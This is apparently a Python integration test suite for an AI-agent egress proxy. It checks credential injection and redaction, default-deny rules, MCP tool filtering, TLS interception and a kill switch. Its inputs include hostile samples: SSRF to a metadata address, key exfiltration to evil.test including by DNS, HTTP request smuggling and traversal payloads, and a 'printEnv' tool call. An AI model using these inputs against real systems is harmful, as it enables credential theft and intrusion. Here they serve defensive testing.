#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The corridor with real processes and a scripted client.

What an agent sees, what the upstream sees, what is logged.

Everything is on loopback; the upstream is a server of this test, which keeps what it was sent.
"""
import base64
import http.server
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import tempfile
import threading
import time
import unittest

BIN = os.environ.get("GATEHOUSE_BIN", "build/dev/bin")
KEY = "sk-canary-0123456789abcdef"
TRACE = "0123456789abcdef0123456789abcdef"


class Upstream(http.server.BaseHTTPRequestHandler):
    """A model, a tool server and a web service in one; remembers every request."""

    protocol_version = "HTTP/1.1"
    seen = []

    def log_message(self, *args):
        pass

    def answer(self, status, body, kind="application/json", headers=()):
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def chunk(self, data):
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def body(self):
        if self.headers.get("transfer-encoding") == "chunked":
            out = b""
            while True:
                size = int(self.rfile.readline(), 16)
                out += self.rfile.read(size)
                self.rfile.readline()
                if size == 0:
                    return out
        return self.rfile.read(int(self.headers.get("content-length", 0)))

    def handle_any(self):
        body = self.body()
        Upstream.seen.append((self.command, self.path, dict(self.headers), body))
        if self.path.startswith("/echo"):
            said = self.headers.get("authorization", "")
            encoded = base64.b64encode(said.encode()).decode()
            text = json.dumps({"you_said": said, "base64": encoded}).encode()
            return self.answer(200, text, headers=[("x-echo", said)])
        if self.path == "/v1/chat/completions":
            request = json.loads(body)
            if request.get("stream"):
                return self.stream(request)
            usage = {"prompt_tokens": 11, "completion_tokens": 3, "total_tokens": 14}
            message = {"role": "assistant", "content": "Hello!"}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            return self.answer(200, json.dumps(
                {"id": "c1", "model": "m", "choices": [choice], "usage": usage}).encode())
        if self.path == "/mcp":
            request = json.loads(body)
            content = [{"type": "text", "text": "echoed"}]
            reply = {"jsonrpc": "2.0", "id": request.get("id"), "result": {"content": content}}
            return self.answer(200, json.dumps(reply).encode())
        return self.answer(200, b'{"ok":true}')

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = handle_any

    def stream(self, request):
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("transfer-encoding", "chunked")
        self.end_headers()
        def event(delta, finish=None):
            choice = {"index": 0, "delta": delta, "finish_reason": finish}
            return b"data: " + json.dumps({"id": "c", "choices": [choice]}).encode() + b"\n\n"
        slow = "slowly" in json.dumps(request)
        try:
            self.chunk(event({"role": "assistant", "reasoning_content": "I think. "}))
            for i in range(200 if slow else 5):
                self.chunk(event({"content": "word%d " % i}))
                if slow:
                    time.sleep(0.05)
            self.chunk(event({}, "stop"))
            self.chunk(b"data: [DONE]\n\n")
            self.wfile.write(b"0\r\n\r\n")
        except OSError:
            Upstream.seen.append(("CUT", self.path, {}, b""))
            self.close_connection = True


class House:
    """The roles, started once for all tests."""

    def __init__(self):
        self.data = tempfile.mkdtemp(prefix="gatehouse-corridor-")
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.log = open(os.path.join(self.data, "log"), "wb")
        self.process = subprocess.Popen(
            [BIN + "/fixture_house", "supervise", self.data, str(self.server.server_port), BIN],
            stdin=subprocess.DEVNULL, stderr=self.log)
        door = os.path.join(self.data, "door")
        for _ in range(1000):
            if os.path.exists(door):
                break
            time.sleep(0.02)
        else:
            said = self.logged()
            self.stop()
            raise RuntimeError("the house does not stand:\n" + said)
        with open(door) as file:
            words = file.read().split()
        self.proxy, self.capture, self.dns = (int(word) for word in words[:3])
        self.run = words[3]
        with open(os.path.join(self.data, "placeholders")) as file:
            lines = file.read().split("\n")
        self.placeholders = dict(line.split() for line in lines if line)

    def settle(self):
        for _ in range(500):
            status, _, _ = request("GET", "http://web.gatehouse/ready")
            if status == 200:
                return
            time.sleep(0.02)
        raise RuntimeError("nothing passes:\n" + self.logged())

    def logged(self):
        with open(os.path.join(self.data, "log"), errors="replace") as file:
            return file.read()

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        self.process.wait(20)
        self.log.close()
        self.server.shutdown()
        self.server.server_close()
        shutil.rmtree(self.data)


HOUSE = None


def start_house():
    global HOUSE
    HOUSE = House()
    try:
        HOUSE.settle()
    except RuntimeError:
        HOUSE.stop()
        raise


def connect():
    return socket.create_connection(("127.0.0.1", HOUSE.proxy), 10)


def read_response(stream, head_only=False):
    line = stream.readline()
    if not line:
        raise EOFError("closed without an answer")
    status = int(line.split()[1])
    headers = {}
    while True:
        line = stream.readline().decode("latin-1").rstrip("\r\n")
        if not line:
            break
        name, value = line.split(":", 1)
        headers[name.lower()] = value.strip()
    if head_only:
        return status, headers, b""
    if headers.get("transfer-encoding") == "chunked":
        body = b""
        while True:
            size = int(stream.readline(), 16)
            body += stream.read(size)
            stream.readline()
            if size == 0:
                return status, headers, body
    return status, headers, stream.read(int(headers.get("content-length", 0)))


def request(method, url, body=b"", headers=()):
    host = url.split("/")[2]
    lines = ["%s %s HTTP/1.1" % (method, url), "host: " + host]
    lines += ["%s: %s" % header for header in headers]
    if body:
        lines.append("content-length: %d" % len(body))
    with connect() as sock:
        sock.sendall("\r\n".join(lines).encode() + b"\r\n\r\n" + body)
        return read_response(sock.makefile("rb"))


def raw(data):
    """What comes back for these bytes, until the end."""
    with connect() as sock:
        sock.sendall(data)
        sock.settimeout(10)
        out = b""
        try:
            while piece := sock.recv(65536):
                out += piece
        except ConnectionResetError:
            pass
        except TimeoutError:
            raise AssertionError("no answer to %r" % data[:200]) from None
        return out


def chat(text, stream=False):
    return json.dumps({"model": "m", "stream": stream,
                       "messages": [{"role": "user", "content": text}]}).encode()


def bearer(service):
    return ("authorization", "Bearer " + HOUSE.placeholders[service])


CHAT = "http://openai.gatehouse/v1/chat/completions"


def chat_bytes(body):
    head = "POST %s HTTP/1.1\r\nhost: openai.gatehouse\r\ncontent-length: %d\r\n%s: %s\r\n\r\n"
    return (head % ((CHAT, len(body)) + bearer("openai"))).encode() + body


class Corridor(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        start_house()

    @classmethod
    def tearDownClass(cls):
        HOUSE.stop()

    def setUp(self):
        Upstream.seen.clear()

    def test_a_model_call_gets_the_key_and_the_agent_never_does(self):
        status, headers, body = request("POST", CHAT, chat("hi"), [bearer("openai")])
        self.assertEqual(status, 200, body)
        self.assertEqual(json.loads(body)["choices"][0]["message"]["content"], "Hello!")
        sent = {k.lower(): v for k, v in Upstream.seen[0][2].items()}
        self.assertEqual(sent["authorization"], "Bearer " + KEY)
        self.assertEqual(Upstream.seen[0][3], chat("hi"), "the body is byte for byte the agent's")
        self.assertTrue(sent["traceparent"].startswith("00-" + TRACE + "-"), sent["traceparent"])
        self.assertEqual(headers["x-gatehouse-trace"], TRACE)
        self.assertEqual(headers["x-gatehouse-run"], HOUSE.run)
        self.assertNotIn(KEY, str(headers) + str(body))

    def test_a_stream_comes_through_event_by_event(self):
        status, headers, body = request("POST", CHAT, chat("hi", True), [bearer("openai")])
        self.assertEqual(status, 200)
        self.assertTrue(headers["content-type"].startswith("text/event-stream"))
        events = [line for line in body.decode().split("\n\n") if line]
        self.assertEqual(len(events), 8)
        self.assertEqual(events[-1], "data: [DONE]")

    def test_what_no_rule_allows_is_a_403_that_names_the_rule_and_reaches_nobody(self):
        for method, url in [("GET", CHAT), ("POST", "http://openai.gatehouse/v1/files"),
                            ("GET", "http://169.254.169.254/latest/meta-data/"),
                            ("GET", "http://evil.test/")]:
            status, headers, body = request(method, url)
            self.assertEqual(status, 403, url)
            self.assertIn("default-deny", body.decode())
            self.assertEqual(headers["x-gatehouse-trace"], TRACE)
        self.assertEqual(Upstream.seen, [])

    def test_a_tool_is_allowed_or_refused_by_name_in_its_own_dialect(self):
        def call(name):
            message = {"jsonrpc": "2.0", "id": 7, "method": "tools/call",
                       "params": {"name": name, "arguments": {"message": "x"}}}
            return request("POST", "http://tools.gatehouse/mcp", json.dumps(message).encode())
        status, _, body = call("echo")
        self.assertEqual((status, json.loads(body)["id"]), (200, 7))
        self.assertEqual(len(Upstream.seen), 1)
        status, _, body = call("printEnv")
        error = json.loads(body)
        self.assertEqual((status, error["id"]), (403, 7))
        self.assertIn("printEnv", error["error"]["message"])
        self.assertEqual(len(Upstream.seen), 1)

    def test_a_placeholder_goes_nowhere_but_to_its_service(self):
        for url in ["http://web.gatehouse/", "http://evil.test/",
                    "http://web.gatehouse/?k=" + HOUSE.placeholders["openai"]]:
            status, _, body = request("GET", url, b"", [bearer("openai")])
            self.assertEqual(status, 403, body)
        basic = base64.b64encode(("x:" + HOUSE.placeholders["openai"]).encode()).decode()
        header = ("authorization", "Basic " + basic)
        status, _, _ = request("GET", "http://web.gatehouse/", b"", [header])
        self.assertEqual(status, 403)
        self.assertEqual(Upstream.seen, [])

    def test_the_agents_own_authorization_never_passes_for_a_service_with_a_credential(self):
        status, _, _ = request("POST", CHAT, chat("hi"), [("authorization", "Bearer mine")])
        self.assertEqual(status, 200)
        self.assertNotIn("authorization", {k.lower() for k in Upstream.seen[0][2]})

    def test_interception_swaps_inside_tls_and_what_is_echoed_is_replaced(self):
        with connect() as sock:
            sock.sendall(b"CONNECT secure.gatehouse:443 HTTP/1.1\r\n"
                         b"host: secure.gatehouse:443\r\n\r\n")
            status, _, _ = read_response(sock.makefile("rb", buffering=0), head_only=True)
            self.assertEqual(status, 200)
            context = ssl.create_default_context(cafile=os.path.join(HOUSE.data, "ca.pem"))
            with context.wrap_socket(sock, server_hostname="secure.gatehouse") as tls:
                text = "GET /echo HTTP/1.1\r\nhost: secure.gatehouse\r\n%s: %s\r\n\r\n"
                tls.sendall((text % bearer("secure")).encode())
                status, headers, body = read_response(tls.makefile("rb"))
        self.assertEqual(status, 200)
        sent = {k.lower(): v for k, v in Upstream.seen[0][2].items()}
        self.assertEqual(sent["authorization"], "Bearer " + KEY)
        self.assertNotIn(KEY, str(headers) + body.decode())
        self.assertIn("credential removed", body.decode())
        for shift in range(3):
            inner = base64.b64encode(b"x" * shift + KEY.encode()).decode().rstrip("=")[4:-4]
            self.assertNotIn(inner, body.decode())

    def test_connect_to_where_no_rule_leads_is_a_403(self):
        for target in ["evil.test:443", "169.254.169.254:80", "web.gatehouse:22"]:
            text = "CONNECT %s HTTP/1.1\r\nhost: %s\r\n\r\n" % (target, target)
            answer = raw(text.encode())
            self.assertTrue(answer.startswith(b"HTTP/1.1 403"), answer[:200])

    def test_malformed_and_smuggled_requests_end_in_a_400_and_touch_nobody(self):
        host = b"host: web.gatehouse\r\n"
        start = b"POST http://web.gatehouse/ HTTP/1.1\r\n"
        for what, data in {
                "CL and TE": start + host + b"content-length: 5\r\n"
                b"transfer-encoding: chunked\r\n\r\n0\r\n\r\n",
                "two CL": start + host + b"content-length: 5\r\ncontent-length: 6\r\n\r\nhello",
                "bare LF": b"GET http://web.gatehouse/ HTTP/1.1\n" + host + b"\n",
                "two Hosts": b"GET http://web.gatehouse/ HTTP/1.1\r\n" + host + host + b"\r\n",
                "obs-fold": start + host + b"a: b\r\n c\r\n\r\n",
                "Host differs": start + b"host: evil.test\r\n\r\n",
                "NUL": b"GET http://web.gatehouse/\0.evil HTTP/1.1\r\n" + host + b"\r\n",
                "dots": b"GET http://web.gatehouse/a/..%2f..%2fetc HTTP/1.1\r\n" + host
                + b"connection: close\r\n\r\n",
                "origin form": b"GET / HTTP/1.1\r\n" + host + b"\r\n",
                "disguised address": b"GET http://2852039166/ HTTP/1.1\r\n"
                b"host: 2852039166\r\n\r\n",
                "huge head": start + host + b"a: " + b"x" * 70000,
        }.items():
            answer = raw(data)
            self.assertRegex(answer[:16], rb"HTTP/1.1 4\d\d ", what)
        self.assertEqual(Upstream.seen, [])

    def test_bad_json_is_refused_in_openais_own_words(self):
        for body in [b"{", b'{"model":"a","model":"b","messages":[]}',
                     b'{"model":"a","\\u006dodel":"b","messages":[]}', b'"\xff"', b"[]"]:
            status, _, answer = request("POST", CHAT, body, [bearer("openai")])
            self.assertEqual(status, 400, body)
            self.assertIn("error", json.loads(answer))
        self.assertEqual(Upstream.seen, [])

    def test_uploads_stream_through_chunked(self):
        with connect() as sock:
            sock.sendall(b"PUT http://web.gatehouse/up HTTP/1.1\r\nhost: web.gatehouse\r\n"
                         b"transfer-encoding: chunked\r\n\r\n")
            for _ in range(100):
                sock.sendall(b"2710\r\n" + b"z" * 10000 + b"\r\n")
            sock.sendall(b"0\r\n\r\n")
            status, _, _ = read_response(sock.makefile("rb"))
        self.assertEqual(status, 200)
        self.assertEqual(Upstream.seen[0][3], b"z" * 1000000)

    def test_one_connection_carries_many_exchanges(self):
        with connect() as sock:
            stream = sock.makefile("rb")
            for _ in range(20):
                sock.sendall(b"GET http://web.gatehouse/x HTTP/1.1\r\nhost: web.gatehouse\r\n\r\n")
                self.assertEqual(read_response(stream)[0], 200)

    def test_names_are_answered_only_where_a_rule_leads(self):
        def ask(name, kind=1):
            labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
            head = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0"
            query = head + labels + b"\0" + bytes([0, kind, 0, 1])
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(5)
                sock.sendto(query, ("127.0.0.1", HOUSE.dns))
                return sock.recv(512)
        answer = ask("web.gatehouse")
        self.assertEqual(answer[3] & 15, 0)
        self.assertEqual(answer[-4:-2], bytes([198, 18]))
        self.assertEqual(ask("c2VjcmV0.evil.test")[3] & 15, 3, "NXDOMAIN, and no query leaves")
        empty = ask("web.gatehouse", 16)
        self.assertEqual((empty[3] & 15, empty[7]), (0, 0), "other types are empty")

    def test_a_client_that_leaves_ends_the_upstream_too(self):
        with connect() as sock:
            body = chat("slowly", True)
            sock.sendall(chat_bytes(body))
            sock.recv(1000)
        for _ in range(300):
            if any(item[0] == "CUT" for item in Upstream.seen):
                return
            time.sleep(0.01)
        self.fail("the upstream went on for an agent that had left")


class ZKill(unittest.TestCase):
    """Last: it kills the run that the others use."""

    @classmethod
    def setUpClass(cls):
        start_house()

    @classmethod
    def tearDownClass(cls):
        HOUSE.stop()

    def test_a_kill_cuts_the_stream_and_refuses_what_comes_after_and_the_log_verifies(self):
        sock = connect()
        self.addCleanup(sock.close)
        body = chat("slowly", True)
        sock.sendall(chat_bytes(body))
        stream = sock.makefile("rb")
        self.assertEqual(read_response(stream, head_only=True)[0], 200)
        for _ in range(6):
            self.assertTrue(stream.readline())
        began = time.monotonic()
        done = subprocess.run([BIN + "/fixture_ask", "kill", HOUSE.data, HOUSE.run],
                              capture_output=True, text=True, timeout=10)
        self.assertEqual(done.returncode, 0, done.stderr)
        rest = b""
        try:
            while piece := stream.read1(65536):
                rest += piece
        except ConnectionResetError:
            pass
        print("last byte %.1f ms after the command began" % ((time.monotonic() - began) * 1000))
        self.assertNotIn(b"[DONE]", rest, "a cut is never dressed up as an end")
        try:
            with connect() as again, again.makefile("rb") as answer:
                again.sendall(b"GET http://web.gatehouse/ HTTP/1.1\r\nhost: web.gatehouse\r\n\r\n")
                self.assertIn(answer.readline()[:12], (b"", b"HTTP/1.1 403"))
        except (ConnectionResetError, BrokenPipeError):
            pass
        log = subprocess.run([BIN + "/fixture_ask", "entries", HOUSE.data, HOUSE.run],
                             capture_output=True, text=True, timeout=10)
        self.assertEqual(log.returncode, 0, log.stderr)
        self.assertIn("intact", log.stdout)
        self.assertIn("intent", log.stdout)
        settled = [line for line in log.stdout.split("\n") if line.startswith("settled")]
        cut = [line for line in settled if "state=cut" in line]
        self.assertTrue(cut, log.stdout)
        self.assertIn("word0", log.stdout, "the partial answer is in the log")
        self.assertIn("vault_use", log.stdout)
        self.assertNotIn(KEY, log.stdout)
        self.assertNotIn(KEY, HOUSE.logged())


if __name__ == "__main__":
    unittest.main(verbosity=2)
